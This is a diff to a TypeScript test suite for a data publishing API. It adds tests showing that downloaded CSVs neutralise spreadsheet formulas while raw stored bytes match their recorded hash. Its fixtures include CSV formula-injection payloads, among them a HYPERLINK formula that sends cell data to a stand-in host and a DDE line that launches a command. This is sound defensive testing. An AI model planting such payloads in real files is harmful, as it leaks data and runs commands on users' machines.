@@ -1,3 +1,5 @@
+import { createHash } from 'node:crypto';
+import Papa from 'papaparse';
 import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { POST as publish } from '../../../src/routes/api/publish/+server';
@@ -12,10 +14,10 @@ import type { DatasetEntry } from '$lib/queries/datasets';
 import { serverEngine } from '$lib/server/engine';
 import { createServices, services, useServices } from '$lib/server/services';
 import { call, ORIGIN, requestEvent, sessionFor } from './events';
-import { tempStore } from './helpers';
+import { tempStore, text } from './helpers';
 
 // Each publish starts a fresh DuckDB and loads the current data into it: seconds, not milliseconds.
-vi.setConfig({ testTimeout: 120_000, hookTimeout: 60_000 });
+vi.setConfig({ testTimeout: 300_000, hookTimeout: 120_000 });
 
 const FILE =
   'indicator_id,period,value,source\ntournees_soutenues,2030-2031,4321,Rapport test\ntournees_soutenues,2031-2032,4400,Rapport test\n';
@@ -123,11 +125,9 @@ describe('POST /api/publish', () => {
     expect(await serverValue()).toBe(5000);
   });
 
-  it('refuses oversized requests (413), wrong types (415), a CSV sent as a workbook and binary content (415)', async () => {
+  // Oversized requests (413) are the server hook's to refuse, before the endpoint runs: tests/unit/server/bodies.test.ts.
+  it('refuses wrong types (415), a CSV sent as a workbook and binary content (415)', async () => {
     const n = await versions(TARGET);
-    expect((await publishAs({ token: tokens.editor, headers: { 'content-length': String(300 * 1024 * 1024) } })).status).toBe(
-      413
-    );
     expect((await publishAs({ token: tokens.editor, type: 'image/png', name: 'x.png' })).status).toBe(415);
     expect(
       (
@@ -246,6 +246,55 @@ describe('POST /api/publish', () => {
       status: 409,
       body: { code: 'indicator_exists' }
     });
+  });
+});
+
+describe('CSV downloads', () => {
+  const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
+  const live = (csv: string) =>
+    Papa.parse<string[]>(csv, { skipEmptyLines: true })
+      .data.flat()
+      .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d.]/.test(cell));
+  const get = async (name: string, query: string) =>
+    call(datasetGet, await requestEvent({ path: `/api/datasets/${name}?${query}`, params: { name } }));
+
+  it('neutralise every formula a published file brought, in the current CSV, each version and the catalogue; ?raw=1 gives the stored bytes', async () => {
+    const quote = (s: string) => `"${s.replaceAll('"', '""')}"`;
+    const content = [
+      'Indicateur,Période,Valeur,Note,Source',
+      `Formules,2043-2044,5,${quote(ATTACKS[0]!)},${quote(ATTACKS[1]!)}`,
+      `Formules,2044-2045,7,${quote(ATTACKS[2]!)},Rapport`
+    ].join('\n');
+    const decisions = {
+      mode: 'replace',
+      indicatorMap: { Formules: 'formules' },
+      described: [{ indicator_id: 'formules', axis: 'numerique', name_fr: 'Formules', name_en: ATTACKS[0], unit: 'count' }]
+    };
+    const res = await publishAs({ token: tokens.editor, content, name: 'formules.csv', decisions });
+    expect(res).toMatchObject({ status: 200, body: { dataset: 'observations/imports-formules.csv', catalogueVersion: 1 } });
+    const dataset = 'observations/imports-formules.csv';
+    const stored = text(await services().store.read(dataset, 1))!;
+    expect(live(stored).length).toBeGreaterThanOrEqual(3); // the store keeps what was published
+
+    for (const [name, query] of [
+      [dataset, 'v=x'],
+      [dataset, 'version=1'],
+      ['catalogue/imports-formules.csv', 'version=1'],
+      ['catalogue/imports-formules.csv', 'v=x']
+    ] as const) {
+      const { status, body } = await get(name, query);
+      expect(status, `${name}?${query}`).toBe(200);
+      expect(live(String(body)), `${name}?${query}`).toEqual([]);
+      for (const attack of name === dataset ? ATTACKS : [ATTACKS[0]!])
+        expect(String(body)).toContain(`'${attack.replaceAll('"', '""')}`);
+    }
+    // Machines get the bytes as stored: their hash is the version's.
+    for (const query of ['version=1&raw=1', 'v=x&raw=1']) {
+      const raw = await get(dataset, query);
+      expect(raw.body).toBe(stored);
+      const [record] = await services().store.versions(dataset);
+      expect(createHash('sha256').update(String(raw.body)).digest('hex')).toBe(record!.sha256);
+    }
   });
 });
 
